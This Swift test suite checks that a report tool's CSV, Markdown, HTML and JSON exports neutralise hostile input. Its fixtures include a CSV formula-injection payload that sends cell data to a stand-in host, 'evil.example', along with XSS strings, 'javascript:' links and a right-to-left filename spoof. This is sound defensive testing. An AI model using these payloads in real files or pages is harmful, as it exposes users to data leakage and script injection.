import Foundation
@testable import Report
import Domain
import Testing

/// What leaves the office opens without running anything (issue 16, items 5–7): formula-like
/// text neutralised in every CSV, Markdown and HTML that show input text as text, hidden
/// characters shown in what people read, fingerprints that no spreadsheet takes for numbers.
@Suite("Outputs that run nothing when opened")
struct OutputSafetyTests {
    static let hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Klik hier\")"
    /// Text a spreadsheet would run, with the field each CSV dialect must hold for it.
    static let formulas: [(text: String, rfc: String, excel: String)] = [
        (hyperlink, "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Klik hier\"\")\"",
         "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Klik hier\"\")\""),
        ("+1", "\"'+1\"", "\"'+1\""),
        ("-2+3", "\"'-2+3\"", "\"'-2+3\""),
        ("@SUM(A1)", "\"'@SUM(A1)\"", "\"'@SUM(A1)\""),
        ("\tcalc", "\"'\tcalc\"", "\"'\tcalc\""),
        ("\rcalc", "\"'\rcalc\"", "\"'\rcalc\""),
        // An apostrophe before a formula is guarded too, so that reading back is exact.
        ("'=1+1", "\"''=1+1\"", "\"''=1+1\""),
    ]

    func csvField(_ cell: Cell, _ dialect: CSVDialect) -> String {
        var out = TextBuffer(), scratch = TextBuffer()
        TableFormats.appendCSV(cell, dialect: dialect, to: &out, scratch: &scratch)
        return String(decoding: out.bytes, as: UTF8.self)
    }

    @Test("formula-like text gets a leading ' and quotes in both CSV dialects; JSON keeps the raw value")
    func neutralised() {
        for (text, rfc, excel) in Self.formulas {
            #expect(csvField(.text(text), .rfc4180) == rfc, "\(text.debugDescription)")
            #expect(csvField(.text(text), .excelBelgium) == excel, "\(text.debugDescription)")
            var json = TextBuffer()
            TableFormats.appendJSON(.text(text), to: &json)
            var raw = TextBuffer()
            TableFormats.appendJSONString(text, to: &raw)
            #expect(json.bytes == raw.bytes)
        }
        // Text that merely contains such characters, or starts with an apostrophe alone, is as it was.
        for text in ["a=b", "AZ Noord", "0042", "'t Hof", "r0812345", "", "2025-2026"] {
            #expect(csvField(.text(text), .rfc4180) == text)
        }
    }

    @Test("numbers are never touched: negative integers and balances stay bare numbers")
    func numbersStayNumbers() {
        let cells: [(Cell, String, String)] = [(.integer(-3), "-3", "-3"), (.decimal(Ratio(-195, 7), places: 1), "-27.9", "-27,9"),
                                               (.decimal(Ratio(-1, 2), places: 1), "-0.5", "-0,5"), (.integer(-0), "0", "0")]
        for (cell, rfc, excel) in cells {
            #expect(csvField(cell, .rfc4180) == rfc && csvField(cell, .excelBelgium) == excel)
        }
    }

    @Test("a table with hostile cells is still RFC 4180, streamed or whole, and reads back to the raw values")
    func streamedAndReadBack() throws {
        let headings = [ColumnHeading(name: "student", type: .text), ColumnHeading(name: "balance", type: .decimal(places: 1)),
                        ColumnHeading(name: "n", type: .integer)]
        let rows: [[Cell]] = Self.formulas.map { [.text($0.text), .decimal(Ratio(-195, 7), places: 1), .integer(-2)] }
        let table = ReportTable(name: "t", title: "t", columns: headings.map(\.name), rows: rows)
        let text = String(decoding: TableFormats.csv(table, dialect: .rfc4180), as: UTF8.self)
        #expect(text.hasPrefix("student,balance,n\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Klik hier\"\")\",-27.9,-2\n"))
        let fields = rfc4180Fields(text)
        #expect(fields.count == rows.count + 1 && fields.allSatisfy { $0.count == 3 })
        for record in fields.dropFirst() {
            #expect(record[0].first == "'" && record[1] == "-27.9" && record[2] == "-2")
        }
        let back = try TableReader.csv(header: fields[0], rows: Array(fields.dropFirst()), name: "t", title: "t", headings: headings)
        #expect(back.rows.map { $0[0] } == Self.formulas.map { .text($0.text) })
        for plain in ["'t Hof", "''", "'", "a"] {
            #expect(TableFormats.unguardedCSVText(plain) == plain)
        }
    }

    @Test("fingerprints are written fp- and 16 hex digits everywhere; report reads that form and the bare one")
    func fingerprints() throws {
        for (hash, text) in [(UInt64(0x9109_5336_3494_e258), "fp-910953363494e258"), (0x88e3_8213_8144_1053, "fp-88e3821381441053"),
                             (0x0000_0000_0000_0012, "fp-0000000000000012")] {
            let cell = Cell.fingerprint(hash)
            #expect(cell.plainText == text && csvField(cell, .rfc4180) == text && csvField(cell, .excelBelgium) == text)
            var json = TextBuffer()
            TableFormats.appendJSON(cell, to: &json)
            #expect(String(decoding: json.bytes, as: UTF8.self) == "\"\(text)\"")
            #expect(ColumnType.fingerprint.cell(text: text) == cell)
            #expect(ColumnType.fingerprint.cell(text: String(text.dropFirst(3))) == cell, "runs published before the prefix")
        }
        for bad in ["fp-910953363494e25", "fp-+10953363494e258", "910953363494e258x", "fp-", "FP-910953363494e258"] {
            #expect(ColumnType.fingerprint.cell(text: bad) == nil, "\(bad)")
        }
    }

    @Test("Markdown shows input markup as text: no script, no remote image, no javascript link")
    func markdown() {
        let cases = [("<script>alert(1)</script>", "\\<script\\>alert(1)\\</script\\>"),
                     ("![x](http://tracker.example/p.png)", "\\!\\[x\\](http://tracker.example/p.png)"),
                     ("[x](javascript:alert(1))", "\\[x\\](javascript:alert(1))"),
                     ("a|b\nc", "a\\|b c"), ("`code` **bold** &lt; ~~gone~~", "\\`code\\` \\*\\*bold\\*\\* \\&lt; \\~\\~gone\\~\\~"),
                     ("IG-CAR (AZ Noord)_2", "IG-CAR (AZ Noord)_2")]
        for (text, escaped) in cases {
            #expect(TableFormats.markdownCell(text) == escaped, "\(text)")
        }
        let table = ReportTable(name: "t", title: "t", columns: ["site"], rows: cases.map { [.text($0.0)] })
        let document = String(decoding: MarkdownSummary.tableDocument(table, title: "<img src=x onerror=alert(1)>"), as: UTF8.self)
        // Every '<', '[' and '!' is escaped: none is left to start markup.
        let unescaped = document.replacingOccurrences(of: "\\<", with: "").replacingOccurrences(of: "\\[", with: "")
            .replacingOccurrences(of: "\\!", with: "")
        #expect(!unescaped.contains("<") && !unescaped.contains("[") && !unescaped.contains("!"), "\(document)")
        #expect(TableFormats.markdownCode("a.csv:3") == "`a.csv:3`" && TableFormats.markdownCode("x`y") == "``x`y``")
        #expect(TableFormats.markdownCode("`x") == "`` `x ``")
    }

    @Test("hidden characters become visible markers in Markdown and HTML, never in CSV or JSON")
    func hiddenCharacters() {
        let text = "r08\u{202E}gpj.exe\u{1B}[31m\u{200B}\u{FEFF}\u{2066}\u{061C}\u{85}\u{2028}"
        let marked = "r08⟨U+202E⟩gpj.exe⟨U+001B⟩[31m⟨U+200B⟩⟨U+FEFF⟩⟨U+2066⟩⟨U+061C⟩⟨U+0085⟩⟨U+2028⟩"
        #expect(VisibleText.marked(text) == marked)
        #expect(VisibleText.marked("Ségolène Ünal, 李\n\tok") == "Ségolène Ünal, 李\n\tok")
        #expect(VisibleText.marked("\u{E0041}\u{7F}\r") == "⟨U+E0041⟩⟨U+007F⟩⟨U+000D⟩")
        // Letters and marks that draw nothing (Default_Ignorable_Code_Point): `AZ\u{3164}Alfa`
        // would read as `AZ Alfa`.
        #expect(VisibleText.marked("AZ\u{3164}Alfa\u{115F}\u{034F}\u{17B4}\u{FE0F}\u{E0100}")
            == "AZ⟨U+3164⟩Alfa⟨U+115F⟩⟨U+034F⟩⟨U+17B4⟩⟨U+FE0F⟩⟨U+E0100⟩")
        #expect(TableFormats.markdownCell(text).contains("⟨U+202E⟩") && !TableFormats.markdownCell(text).contains("\u{1B}"))
        var html = TextBuffer()
        TableFormats.appendHTML(text, to: &html)
        let page = String(decoding: html.bytes, as: UTF8.self)
        #expect(page.hasPrefix("r08⟨U+202E⟩gpj.exe⟨U+001B⟩") && !page.unicodeScalars.contains { VisibleText.isHidden($0) })
        #expect(csvField(.text(text), .rfc4180) == text)
        var json = TextBuffer()
        TableFormats.appendJSON(.text(text), to: &json)
        #expect(String(decoding: json.bytes, as: UTF8.self).contains("\u{202E}gpj.exe\\u001b[31m\u{200B}"))
    }

    @Test("the HTML page escapes every input text and marks hidden characters")
    func html() {
        let table = ReportTable(name: "t", title: "t", columns: ["site", "balance"], rows: [
            [.text("<script>alert(1)</script>"), .decimal(Ratio(-3, 2), places: 1)],
            [.text("![x](http://tracker.example/p.png)\u{202E}"), .integer(-2)],
            [.text("[x](javascript:alert(1))\" onclick=\"x"), .empty],
        ])
        let page = String(decoding: HTMLPage.standalone(table, title: "\u{1B}[2J<b>", language: .en), as: UTF8.self)
        #expect(!page.contains("<script>alert") && !page.contains("<b>") && !page.contains("\u{1B}") && !page.contains("\u{202E}"))
        #expect(page.contains("<title>⟨U+001B⟩[2J&lt;b&gt;</title>") && page.contains("⟨U+202E⟩"))
        #expect(page.contains("&quot; onclick=&quot;x") && page.contains("<td class=\"n\" data-value=\"-1.5\">-1.5</td>"))
        #expect(!page.contains(" src=") && !page.contains("href="))
    }

    /// An independent RFC 4180 reader (not the tool's tokenizer): records of fields.
    func rfc4180Fields(_ text: String) -> [[String]] {
        var records: [[String]] = [], record: [String] = [], field = "", quoted = false, atStart = true
        var characters = Array(text.unicodeScalars)[...]
        while let scalar = characters.popFirst() {
            if quoted {
                if scalar == "\"" {
                    if characters.first == "\"" { field.unicodeScalars.append(characters.removeFirst()) } else { quoted = false }
                } else {
                    field.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" && atStart {
                quoted = true
            } else if scalar == "," {
                record.append(field)
                field = ""
                atStart = true
                continue
            } else if scalar == "\n" {
                record.append(field)
                records.append(record)
                record = []
                field = ""
                atStart = true
                continue
            } else {
                field.unicodeScalars.append(scalar)
            }
            atStart = false
        }
        return records
    }
}
